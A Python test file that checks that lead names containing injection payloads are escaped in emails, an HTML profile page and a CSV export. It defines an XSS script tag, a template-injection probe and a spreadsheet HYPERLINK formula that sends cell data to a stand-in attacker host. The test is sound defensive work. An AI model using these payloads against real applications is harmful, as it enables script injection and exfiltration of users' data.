"""Names like `<script>`, `{{7*7}}` and `=HYPERLINK(...)` stay literal: pages, mails, CSV."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from markupsafe import escape

from tests.pipeline import Engine
from tests.prospects import SIGNED_UP, consented, make_site
from tests.smtp_server import SmtpServer

SCRIPT = "<script>alert(1)</script>"
TEMPLATE = "{{7*7}}"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def test_hostile_names_are_escaped_everywhere(engine: Engine, smtp_server: SmtpServer) -> None:
    """Escaped in HTML, literal in subjects and text, never evaluated, inert in CSV."""
    site = make_site(engine.rt)
    lead = consented(site, "h1@example.com", first_name=SCRIPT, last_name=TEMPLATE, company=FORMULA)
    consented(site, "h2@example.com", first_name=TEMPLATE)
    engine.start_worker()
    engine.schedule(SIGNED_UP + timedelta(hours=1))
    engine.drain()

    by_recipient = {m.rcpt_tos[0]: m.parse() for m in smtp_server.messages}
    first, second = by_recipient["h1@example.com"], by_recipient["h2@example.com"]
    assert first["Subject"] == f"Hello {SCRIPT}"
    assert second["Subject"] == f"Hello {TEMPLATE}"
    text_part, html_part = (part.get_content() for part in first.iter_parts())
    assert SCRIPT in text_part
    assert SCRIPT not in html_part
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html_part
    assert "Hi 49" not in "".join(p.get_content() for p in second.iter_parts())

    my_data = "/my-data/" + engine.rt.tokens.sign("preferences", lead.public_id)
    page = site.client.get(my_data).get_data(as_text=True)
    assert SCRIPT not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert TEMPLATE in page
    assert str(escape(FORMULA)) in page  # shown as text in the profile table

    exported = site.client.post(my_data + "/export.csv", data={"csrf_token": site.csrf(my_data)})
    assert exported.headers["Content-Disposition"] == "attachment; filename=my-data.csv"
    rows = {(r[0], r[2]): r[3] for r in csv.reader(io.StringIO(exported.get_data(as_text=True)))}
    assert rows[("lead", "company")] == "'" + FORMULA
    assert rows[("lead", "first_name")] == SCRIPT
    assert rows[("lead", "last_name")] == TEMPLATE
